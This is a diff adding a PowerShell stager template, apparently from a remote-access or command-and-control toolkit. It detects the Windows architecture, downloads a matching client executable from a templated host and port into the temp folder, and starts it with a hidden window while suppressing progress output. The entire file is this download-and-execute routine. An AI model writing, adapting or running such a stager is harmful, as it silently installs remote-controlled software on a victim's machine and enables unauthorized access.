@@ -0,0 +1,22 @@
+$ProgressPreference = 'SilentlyContinue'
+[Net.ServicePointManager]::SecurityProtocol = [Net.ServicePointManager]::SecurityProtocol -bor [Net.SecurityProtocolType]::Tls12
+
+$arch = if ([Environment]::Is64BitOperatingSystem) { 'amd64' } else { '386' }
+if ($env:PROCESSOR_ARCHITECTURE -eq 'ARM64' -or $env:PROCESSOR_ARCHITEW6432 -eq 'ARM64') { $arch = 'arm64' }
+
+$clients = @{
+{{- range .Variants}}{{if eq .OS "windows"}}
+    '{{.Arch}}' = '{{.Name}}'
+{{- end}}{{end}}
+}
+
+$name = $clients[$arch]
+if (-not $name) {
+    Write-Error "No client for windows/$arch"
+    exit 1
+}
+
+$path = Join-Path $env:TEMP "$name.exe"
+(New-Object Net.WebClient).DownloadFile("{{.Protocol}}://{{.Host}}:{{.Port}}/$name{{.Query}}", $path)
+
+Start-Process -WindowStyle Hidden -FilePath $path